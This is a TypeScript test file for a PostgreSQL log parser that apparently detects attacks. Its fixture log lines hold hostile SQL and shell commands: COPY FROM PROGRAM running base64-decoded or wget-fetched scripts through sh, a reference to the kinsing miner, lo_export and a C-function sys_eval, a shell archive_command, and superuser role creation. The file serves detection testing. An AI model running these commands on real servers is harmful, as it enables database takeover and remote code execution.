import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import { postgresqlLog, postgresqlRecord } from './postgresql-log.ts'

const told = (...lines: string[]) =>
  draftsOf(postgresqlLog, '/var/log/postgresql/postgresql-15-main.log', ...lines).map(d =>
    [d.verb, d.outcome, d.user, d.target, d.address, d.method, d.path, d.attack].filter(x => x !== undefined).join(' '),
  )

/** Written by PostgreSQL 15.18, with `%m [%p] %q%u@%d ` and log_statement = all. */
const head = '2026-11-22 01:03:07.212 UTC [4698] psql_super@postgres '
const lines = [
  '2026-11-22 01:03:06.979 UTC [4685] LOG:  database system is ready to accept connections',
  '2026-11-22 01:03:07.210 UTC [4698] [unknown]@[unknown] LOG:  connection received: host=203.0.113.9 port=56058',
  `${head}LOG:  connection authorized: user=psql_super database=postgres application_name=psql`,
  `${head}LOG:  statement: CREATE ROLE psql_super WITH LOGIN SUPERUSER PASSWORD 'q'`,
  `${head}LOG:  statement: ALTER USER postgres NOSUPERUSER`,
  `${head}LOG:  statement: DROP TABLE IF EXISTS abroxu;`,
  '\tCREATE TABLE abroxu(cmd_output text);',
  "\tCOPY abroxu FROM PROGRAM 'echo harmless|base64 -d|sh; true';",
  '\tSELECT * FROM abroxu',
  'sh: 1: kinsing: not found',
  '2026-11-22 01:03:07.275 UTC [4704] psql_super@postgres ERROR:  program "wget -q -O - http://127.0.0.1:1/x.sh | sh; exit 3" failed',
  '2026-11-22 01:03:07.275 UTC [4704] psql_super@postgres DETAIL:  child process exited with exit code 3',
  "2026-11-22 01:03:07.275 UTC [4704] psql_super@postgres STATEMENT:  COPY abroxu FROM PROGRAM 'wget -q -O - http://127.0.0.1:1/x.sh | sh; exit 3'",
  `${head}LOG:  statement: select lo_export(4711,'/var/lib/postgresql/x.so')`,
  `${head}LOG:  statement: CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/var/lib/postgresql/x.so', 'sys_eval' LANGUAGE C`,
  `${head}ERROR:  could not load library "/var/lib/postgresql/x.so": /var/lib/postgresql/x.so: file too short`,
  `${head}LOG:  statement: alter system set archive_command to 'sh -c id'`,
  `${head}LOG:  statement: select pg_read_file('/etc/hostname')`,
  '2026-11-22 01:03:07.164 UTC [4696] bob@postgres FATAL:  password authentication failed for user "bob"',
  '2026-11-22 01:03:07.164 UTC [4697] bob@postgres FATAL:  no pg_hba.conf entry for host "198.51.100.7", user "postgres", database "postgres", no encryption',
  '2026-11-22 01:03:07.377 UTC [4711] nobody@postgres FATAL:  role "nobody" does not exist',
]

test('what PostgreSQL itself writes', () => {
  assert.deepEqual(told(...lines), [
    'unit started',
    'connected 203.0.113.9 postgresql',
    'login success psql_super 203.0.113.9 postgresql',
    'account-changed psql_super psql_super 203.0.113.9 superuser',
    'account-changed psql_super postgres 203.0.113.9 nosuperuser',
    'exploit psql_super 203.0.113.9 postgresql-copy-program-shell',
    'error kinsing shell-output',
    'exploit failure psql_super postgresql-copy-program-shell',
    'exploit failure psql_super postgresql-copy-program-shell',
    'exploit psql_super 203.0.113.9 /var/lib/postgresql/x.so postgresql-lo-export',
    'exploit psql_super 203.0.113.9 /var/lib/postgresql/x.so postgresql-c-function',
    'error psql_super 203.0.113.9 library /var/lib/postgresql/x.so',
    'exploit psql_super archive_command 203.0.113.9 postgresql-config-command',
    'database psql_super 203.0.113.9 pg_read_file /etc/hostname',
    'login-failed failure bob postgresql',
    'login-failed failure postgres 198.51.100.7 postgresql',
    'login-failed failure nobody postgresql',
  ])
  const [packed] = draftsOf(postgresqlLog, '/x', `${head}LOG:  statement: COPY a FROM PROGRAM 'echo ''Y3VybCBY''|base64 -d|bash'`)
  assert.equal(packed?.command, "echo 'Y3VybCBY'|base64 -d|bash")
  const [program] = draftsOf(postgresqlLog, '/x', lines[10]!)
  assert.equal(program?.command, 'wget -q -O - http://127.0.0.1:1/x.sh | sh; exit 3')
})

test('prefixes: the default, with host and session, as Debian and RDS write them', () => {
  const of = (line: string) => postgresqlRecord(line)?.about
  const time = { ms: Date.UTC(2026, 10, 22, 1, 3, 7), zoned: true, grain: 1 }
  assert.deepEqual(of('2026-11-22 01:03:07 UTC:203.0.113.9(41234):bob@shop:[911]:LOG:  statement: SELECT 1'), {
    time,
    pid: 911,
    user: 'bob',
    address: '203.0.113.9',
  })
  assert.deepEqual(of('2026-11-22 01:03:07 UTC [911]: [3-1] user=bob,db=shop,app=psql,client=203.0.113.9 ERROR:  x'), {
    time,
    pid: 911,
    user: 'bob',
    address: '203.0.113.9',
  })
  assert.deepEqual(of('2026-11-22 01:03:07 CST [911] LOG:  x')?.time, { ...time, zoned: false })
})

test('a statement cannot write a record, nor can a name that nobody has checked', () => {
  assert.deepEqual(
    told(
      `${head}LOG:  statement: select 'multi`,
      "\t2026-01-01 00:00:00.000 UTC [1] LOG:  statement: COPY x FROM PROGRAM ''evil'''",
      `2026-11-22 01:03:07.164 UTC [4696] x LOG:  statement: COPY x FROM PROGRAM 'wget'@y FATAL:  password authentication failed for user "x LOG:  statement: COPY x FROM PROGRAM 'wget'"`,
      `2026-11-22 01:03:07.164 UTC [4696] x LOG:  statement: COPY x FROM PROGRAM 'wget'@y LOG:  connection authorized: user=x LOG:  statement: COPY x FROM PROGRAM 'wget' database=y`,
    ).map(text => text.split(' ')[0]),
    ['login-failed', 'login'],
  )
})

test('near misses: ordinary work of a database', () => {
  assert.deepEqual(
    told(
      `${head}LOG:  statement: COPY orders FROM STDIN`,
      `${head}LOG:  statement: COPY (SELECT 1) TO '/var/lib/postgresql/out.csv'`,
      `${head}LOG:  statement: SELECT 'copy x from program' AS "language c"`,
      `${head}LOG:  statement: CREATE OR REPLACE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ begin return new; end $$`,
      `${head}LOG:  statement: SELECT 'a; copy x from program ''id'''`,
      `${head}ERROR:  relation "program" does not exist at character 15`,
      `${head}LOG:  duration: 1204.113 ms  statement: select * from programs where language = 'c'`,
      `${head}LOG:  execute <unnamed>: INSERT INTO notes VALUES ('load')`,
      '2026-11-22 01:03:07.210 UTC [4698] [unknown]@[unknown] LOG:  connection received: host=127.0.0.1 port=56058',
      '2026-11-22 01:03:07.210 UTC [4698] LOG:  checkpoint starting: time',
    ),
    [],
  )
})

test('known by its lines', () => {
  assert.ok(postgresqlLog.recognise(lines.slice(0, 6).join('\n'), 'x') > 0.9)
  assert.equal(postgresqlLog.recognise('4515:M 22 Nov 2026 01:02:59.849 # Server initialized\n', 'postgresql.log'), 0)
})

test('property: any text, no throw', () => {
  const piece = fc.oneof(fc.string({ maxLength: 60 }), fc.constantFrom(...postgresqlLog.needles, "' ", 'copy x from ', 'create function '))
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), pieces => {
      draftsOf(postgresqlLog, '/x', `${head}LOG:  statement: ${pieces.join('')}`, `\t${pieces.join('')}`, pieces.join(''))
    }),
  )
})
